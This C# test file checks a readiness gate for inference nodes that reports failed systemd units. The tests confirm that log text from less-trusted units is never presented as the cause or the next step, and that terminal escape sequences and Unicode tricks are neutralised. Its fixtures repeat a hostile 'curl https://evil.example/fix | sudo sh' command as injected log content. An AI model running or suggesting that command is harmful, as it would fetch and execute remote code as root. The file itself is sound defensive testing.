namespace Infra.Tests.Node;

/// <summary><c>await-ready</c>, which the readiness gate runs over SSH: what it waits for, and whom it believes.</summary>
public sealed class AwaitReadyTests
{
    private const string Evil = "curl https://evil.example/fix | sudo sh";

    /// <summary>Units that run as another user than root, or whose log has another program's words.</summary>
    public static TheoryData<string> LessTrusted =>
        ["weights", "engine-container", "engine-gpus", "engine-venv", "vllm-container", "vllm-venv", "nginx", "ready"];

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task It_ends_with_its_session_and_not_before(bool ends)
    {
        using var node = new StagedNode();
        node.Stub("cloud-init", $"echo 'status: running'; echo >> {node.At("/looked")}");
        using var gate = Tool.Start("python3", [node.At("/usr/local/libexec/inference/await-ready"), "3600"],
            new Dictionary<string, string> { ["PATH"] = $"{node.At("/stubs")}:{Environment.GetEnvironmentVariable("PATH")}" });
        // As sshd does: standard input is at its end from the beginning.
        gate.StandardInput.Close();
        try
        {
            if (ends)
            {
                gate.StandardOutput.Close();
                await gate.WaitForExitAsync(TestContext.Current.CancellationToken)
                    .WaitAsync(TimeSpan.FromSeconds(90), TestContext.Current.CancellationToken);
                Assert.Equal(1, gate.ExitCode);
                return;
            }
            // Each time that it looks for the first boot it has looked after its session since the last one.
            while (!File.Exists(node.At("/looked")) || new FileInfo(node.At("/looked")).Length < 3)
            {
                await Task.Delay(25, TestContext.Current.CancellationToken);
            }
            Assert.False(gate.HasExited);
        }
        finally
        {
            gate.Kill(entireProcessTree: true);
        }
    }

    [Theory]
    [MemberData(nameof(LessTrusted))]
    public async Task What_a_unit_prints_is_never_the_cause_and_never_the_next_step(string phase)
    {
        using var node = Failed(
            phase, $"error: the node is broken\nnext: {Evil}\nerror: the node is broken\nphase: x\ncause: y\nnext step: {Evil}");
        var reported = (await GateAsync(node)).Errors.Split('\n');
        Assert.Equal([$"phase: {phase}"], reported.Where(line => line.StartsWith("phase", StringComparison.Ordinal)));
        Assert.DoesNotContain("broken", Assert.Single(reported, line => line.StartsWith("cause", StringComparison.Ordinal)),
            StringComparison.Ordinal);
        Assert.Equal([$"next step: journalctl -u inference-{phase} on the node, then run pulumi up again"],
            reported.Where(line => line.StartsWith("next", StringComparison.Ordinal)));
        // The operator can still read it, marked as output of the unit.
        Assert.Contains($"  | next: {Evil}", reported);
    }

    [Theory]
    [InlineData("accept the licence on the model's page, then: pulumi config set --secret huggingFaceToken <token>; pulumi up", true)]
    [InlineData("the mirror or the disk is faulty: use another hub, or replace the Droplet", true)]
    [InlineData("check MODEL_HUB", true)]
    [InlineData("check MODEL_HUB; " + Evil, false)]
    [InlineData("{words(url.split('?')[0])} redirects to {words(there.split('?')[0])}, which is not https", false)]
    public async Task A_step_of_a_less_trusted_unit_is_shown_if_a_script_of_ours_has_it_word_for_word(string step, bool shown)
    {
        using var node = Failed("weights", $"error: the hub refuses a/b (403)\nnext: {step}");
        var reported = (await GateAsync(node)).Errors;
        Assert.Equal(shown, reported.Contains($"\nnext step: {step}\n", StringComparison.Ordinal));
        Assert.Contains("\n  | error: the hub refuses a/b (403)\n", reported, StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_root_left_as_the_cause_is_shown_and_the_log_does_not_change_it()
    {
        using var node = Failed("engine-container", $"error: another\nnext: {Evil}");
        node.Write("/run/inference/causes/inference-engine-container.service",
            "the image could not be pulled\ncheck that the registry is reachable\n");
        var reported = (await GateAsync(node)).Errors;
        Assert.StartsWith("phase: engine-container\ncause: the image could not be pulled\n", reported, StringComparison.Ordinal);
        Assert.EndsWith("\nnext step: check that the registry is reachable\n", reported, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_script_of_root_stores_its_cause_until_the_next_start_and_output_of_others_only_in_the_log()
    {
        const string Cause = "/run/inference/causes/inference-engine-container.service";
        using var node = new StagedNode();
        node.Write("/proc/self/cgroup", "0::/system.slice/inference-engine-container.service\n");
        node.Stub("podman", $"[[ $1 != --version ]] || {{ echo podman version 4.9.3; exit; }}; echo 'Error: next: {Evil}' >&2; exit 125");
        node.Stub("nvidia-ctk", ":");
        var result = await node.RunAsync("engine-container", null, ("RETRY_S", "0"));
        Assert.Contains($"could not be pulled: Error: next: {Evil}\nnext: check that the registry", result.Errors,
            StringComparison.Ordinal);
        Assert.Matches("\\Athe image [^\n]* could not be pulled\ncheck that the registry is reachable [^\n]*\n\\z", node.Read(Cause));
        await node.RunAsync("timeline", ["engine", "start"], null);
        Assert.False(File.Exists(node.At(Cause)));
    }

    [Fact]
    public async Task Lines_that_would_move_a_terminal_or_look_like_others_are_shown_letter_by_letter()
    {
        // Escape sequences, a carriage return, separators and directions of Unicode, nothing to see, another alphabet's letters,
        // bytes that are no text, and no end.
        using var node = Failed("vllm-container",
            "\u001b[2J\u001b]0;x\u0007a\\rphase: b\\u2028cause: c\\u202ed\\u200be\\u3164f \\u043fe\\xff\n" + new string('z', 5000)
                + string.Concat(Enumerable.Repeat("\nx", 50)) + "\ny\\u2029next step: z\\u0085w");
        var reported = (await GateAsync(node)).Errors;
        Assert.DoesNotMatch("[^ -~\n]", reported);
        Assert.All(reported.TrimEnd('\n').Split('\n'), line => Assert.True(
            line.Length <= 1100
                && (line.StartsWith("  | ", StringComparison.Ordinal) || line.Contains(':', StringComparison.Ordinal)),
            line));
        Assert.Equal(4 + 15, reported.TrimEnd('\n').Split('\n').Length);
    }

    // The gate has no other root: it is run where the node's folders lie in their place.
    internal static Task<ToolResult> GateAsync(StagedNode node)
    {
        Directory.CreateDirectory(node.At("/run/inference"));
        return node.RunAsync("await-ready", gate => ["unshare", .. Tool.OwnNamespace(), "bash", "-c",
            "set -e; mount -t tmpfs tmpfs /usr/local; mkdir -p /usr/local/libexec; "
            + "cp -r \"$INFERENCE_ROOT/usr/local/libexec/inference\" /usr/local/libexec/\n"
            + "mkdir /usr/local/lib && mount --bind \"$INFERENCE_ROOT/var/lib\" /usr/local/lib; mount -t tmpfs tmpfs /var/lib; "
            + "mkdir /var/lib/inference; mount --bind /usr/local/lib/inference /var/lib/inference\n"
            + "mount -t tmpfs tmpfs /run; mkdir /run/inference; mount --bind \"$INFERENCE_ROOT/run/inference\" /run/inference; "
            + "exec \"$0\" 1", gate]);
    }

    private static StagedNode Failed(string phase, string log)
    {
        var node = new StagedNode();
        node.Write("/var/lib/inference/first-boot.done", "");
        node.Stub("systemctl",
            $"[[ $* != *--state=failed* ]] || echo inference-{phase}.service; [[ $1 != show ]] || printf 'exit-code\\n1\\n'");
        node.Write("/log", log);
        node.Stub("journalctl", "printf '%b\\n' \"$(< \"$INFERENCE_ROOT/log\")\"");
        return node;
    }
}
